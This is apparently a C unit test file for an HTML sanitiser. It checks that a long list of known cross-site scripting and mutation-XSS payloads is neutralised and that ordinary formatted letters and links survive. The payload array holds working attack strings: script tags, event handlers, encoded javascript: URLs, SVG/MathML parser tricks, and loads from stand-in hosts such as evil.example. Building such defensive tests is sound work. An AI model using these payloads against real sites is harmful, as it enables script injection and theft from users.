/* What people send as HTML: the collections of known attacks (OWASP's cheat sheet, html5sec, the
 * DOMPurify and mXSS papers), and what decent letters look like afterwards. */
#include "html/html.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>

#include "harness/cpu.h"
#include "harness/html_oracle.h"

static void becomes(const char *html, const char *expected) {
    CLEANUP(buf_done) Buf got = {0};
    assert_int_equal(html_sanitise(str(html), &got), HTML_CLEAN);
    assert_string_equal(got.p ? got.p : "", expected);
}

static const char *const attacks[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/x.js></SCRIPT>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//x.example>",
    "<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=`javascript:alert(\"x\")`>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097\">",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java&NewLine;script&Tab;:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"view-source:http://x\">x</a>",
    "<a href=\"//evil.example/\">x</a>",
    "<a href=\"/\\evil.example\">x</a>",
    "<a href=\"https:\\\\evil.example\">x</a>",
    "<a href=\"https:evil.example\">x</a>",
    "<a href=\"https://bank.example@evil.example/\">x</a>",
    "<a href=\"http://bank.example%2f@evil.example/\">x</a>",
    "<a href=\"http://x\" onclick=alert(1) style=\"position:fixed;top:0\">x</a>",
    "<a href='http://x/\"onmouseover=\"alert(1)'>x</a>",
    "<a target=_self href=http://x rel=opener>x</a>",
    "<BODY BACKGROUND=\"javascript:alert(1)\" ONLOAD=alert(1)>x",
    "<html onload=alert(1)><head><base href=//evil.example/></head>x",
    "<base href=\"javascript:alert(1);//\">",
    "<meta http-equiv=refresh content=\"0;url=data:text/html,x\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<STYLE>li{list-style-image:url(\"javascript:alert(1)\")}</STYLE><UL><LI>x</LI></UL>",
    "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe/onload=alert(1)>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<applet code=x></applet>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>go",
    "<isindex action=javascript:alert(1) type=image>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    ("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
     "onerror=alert(1)&gt;\">"),
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<xmp><img title=\"</xmp><img src onerror=alert(1)>\"></xmp>",
    "<title><img title=\"</title><img src onerror=alert(1)>\"></title>",
    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
    "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><?import namespace=\"t\"?>x",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
    "</div></div><script>alert(1)</script><div>",
    "</div><h1>not inside any more",
    "<table><tr><td></div></td></tr></table></div><form>",
    "<p id=config class=admin name=cookie>x</p>",
    "<img name=getElementById src=x>",
    "<a id=x><a id=x name=y href=https://x.example>y</a></a>",
    "<a href=https://a.example><marquee><a href=https://b.example>y",
    "<b><p><b><i><marquee></b><p>x",
    "\xc0\xbcscript\xc0\xbe alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=\"/api/v2/attachments/7/../../users/1.json\">",
    "<img src=\"/api/v2/attachments/7/%2e%2e/x\">",
    "<img src=\"/api/v2/users/me\">",
    "<img src=\"//api/v2/attachments/7\">",
    "<img src=\"https://track.example/open.gif?agent=1\" width=1 height=1>",
    "<td colspan=99999999>x</td><table><tr><td colspan=99999999 rowspan=-1>x",
};

static void no_known_attack_gets_through(void **state) {
    (void)state;
    for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
        CLEANUP(buf_done) Buf out = {0}, shown = {0}, text = {0};
        (void)html_sanitise(str(attacks[i]), &out);
        if (!oracle_holds(buf_str(&out), ORACLE_ELEMENTS)) fail_msg("%s\n-> %s", attacks[i], out.p);
        assert_null(out.p ? strcasestr(out.p, "<script") : NULL);
        html_from_text(str(attacks[i]), &shown);
        assert_true(oracle_holds(buf_str(&shown), " div p br a "));
        (void)html_to_text(str(attacks[i]), &text);
    }
}

static void a_decent_letter_stays_as_it_is(void **state) {
    (void)state;
    becomes("<p>您好，<b>订单</b> 已发货。<br>谢谢</p>",
            "<p>您好，<b>订单</b> 已发货。<br>谢谢</p>");
    becomes("<ul><li>一</li><li>二</li></ul><ol start=\"3\"><li>三</li></ol>",
            "<ul><li>一</li><li>二</li></ul><ol start=\"3\"><li>三</li></ol>");
    becomes("<table><tbody><tr><td colspan=\"2\">价</td></tr></tbody></table>",
            "<table><tbody><tr><td colspan=\"2\">价</td></tr></tbody></table>");
    becomes("<pre>\n\n  if (a &lt; b)</pre>", "<pre>\n\n  if (a &lt; b)</pre>");
    becomes("1 < 2 && 3 > 2 \"so\"", "1 &lt; 2 &amp;&amp; 3 &gt; 2 &quot;so&quot;");
    becomes("", "");
}

static void a_link_leads_out_and_tells_nothing(void **state) {
    (void)state;
    becomes("<a href=\"https://shop.example/a?b=1&amp;c=2\" title=t>店</a>",
            "<a href=\"https://shop.example/a?b=1&amp;c=2\" rel=\"nofollow noopener noreferrer\" "
            "target=\"_blank\" title=\"t\">店</a>");
    becomes("<a href=\"mailto:a@b.example\">写信</a>",
            "<a href=\"mailto:a@b.example\" rel=\"nofollow noopener noreferrer\" "
            "target=\"_blank\">写信</a>");
    becomes("<a href=\"mailto:a@b.example?bcc=x@y.example\">写信</a>", "写信");
    becomes("<a href=\"javascript:alert(1)\">点我</a>", "点我");
    becomes("<a href=\"http://user:pw@shop.example/\">店</a>", "店");
}

static void a_picture_of_somebody_elses_is_not_loaded(void **state) {
    (void)state;
    becomes("<img src=\"/api/v2/attachments/17/图.png\" alt=\"图\" width=\"20\" height=\"99999\">",
            "<img src=\"/api/v2/attachments/17/图.png\" alt=\"图\" width=\"20\">");
    becomes("<img src=\"/api/v2/attachments/17/%E5%9B%BE.png\">",
            "<img src=\"/api/v2/attachments/17/%E5%9B%BE.png\">");
    becomes("<img src=\"/api/v2/attachments/17/%2e%2e\">", "[图片]");
    becomes("<img src=\"/api/v2/attachments/17/a%2fb\">", "[图片]");
    becomes("<img src=\"https://track.example/o.gif\" alt=\"赞\">",
            "<a href=\"https://track.example/o.gif\" rel=\"nofollow noopener noreferrer\" "
            "target=\"_blank\">[图片: 赞]</a>");
    becomes("<a href=\"https://a.example/\"><img src=\"https://b.example/o.gif\"></a>",
            "<a href=\"https://a.example/\" rel=\"nofollow noopener noreferrer\" "
            "target=\"_blank\">[图片]</a>");
    becomes("<img src=\"data:image/png;base64,AAAA\">", "[图片]");
}

static void what_is_unknown_leaves_its_content(void **state) {
    (void)state;
    becomes("<custom-tag x=1>a<font color=red>b</font></custom-tag>", "ab");
    becomes("<section><article>a</article></section>", "a");
    becomes("a<script>b</script>c<style>d</style>e", "ace");
}

static Buf repeated(const char *piece, size_t bytes) {
    Buf b = {0};
    while (b.n < bytes)
        buf_adds(&b, piece);
    return b;
}

static void deep_nesting_is_cut_and_costs_little(void **state) {
    (void)state;
    static const char *const pieces[] = {
        "<b>", "<div>",    "<p><b>",     "<table><tr><td>", "<svg><g>",
        "<a>", "<ul><li>", "<template>", "<b><p></b>",      "<font size=1><p>"};
    for (size_t i = 0; i < sizeof(pieces) / sizeof(pieces[0]); i++) {
        CLEANUP(buf_done) Buf in = repeated(pieces[i], 60000), out = {0}, text = {0};
        int64_t began = cpu_ms();
        (void)html_sanitise(buf_str(&in), &out);
        (void)html_to_text(buf_str(&in), &text);
        int64_t took = cpu_ms() - began;
        if (took > 5000) fail_msg("%s took %lld ms", pieces[i], (long long)took);
        assert_true(oracle_holds(buf_str(&out), ORACLE_ELEMENTS));
    }
}

/* Every <p> opens all the formatting elements anew, each distinct: a square of elements. */
static void a_text_that_explodes_is_shown_as_text(void **state) {
    (void)state;
    CLEANUP(buf_done) Buf in = {0};
    buf_adds(&in, "<p>");
    for (int i = 0; i < 3000; i++)
        buf_printf(&in, "<b a%d>", i);
    for (int i = 0; i < 10000; i++)
        buf_adds(&in, "<p>x");
    CLEANUP(buf_done) Buf out = {0};
    int64_t began = cpu_ms();
    assert_int_equal(html_sanitise(buf_str(&in), &out), HTML_AS_TEXT);
    assert_true(cpu_ms() - began < 5000);
    assert_true(str_starts(buf_str(&out), STR("<p dir=\"auto\">&lt;p&gt;&lt;b a0&gt;")));
    assert_true(oracle_holds(buf_str(&out), " div p br a "));
}

static void more_than_a_text_may_have_is_shown_as_text(void **state) {
    (void)state;
    CLEANUP(buf_done) Buf tags = repeated("<br>", 4 * (HTML_TAGS_MAX + 1)), out = {0};
    assert_int_equal(html_sanitise(buf_str(&tags), &out), HTML_AS_TEXT);
    CLEANUP(buf_done) Buf bytes = repeated("x", HTML_BYTES_MAX + 1);
    assert_int_equal(html_sanitise(buf_str(&bytes), &out), HTML_AS_TEXT);
    assert_int_equal(html_to_text(buf_str(&bytes), &out), HTML_AS_TEXT);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(no_known_attack_gets_through),
        cmocka_unit_test(a_decent_letter_stays_as_it_is),
        cmocka_unit_test(a_link_leads_out_and_tells_nothing),
        cmocka_unit_test(a_picture_of_somebody_elses_is_not_loaded),
        cmocka_unit_test(what_is_unknown_leaves_its_content),
        cmocka_unit_test(deep_nesting_is_cut_and_costs_little),
        cmocka_unit_test(a_text_that_explodes_is_shown_as_text),
        cmocka_unit_test(more_than_a_text_may_have_is_shown_as_text),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
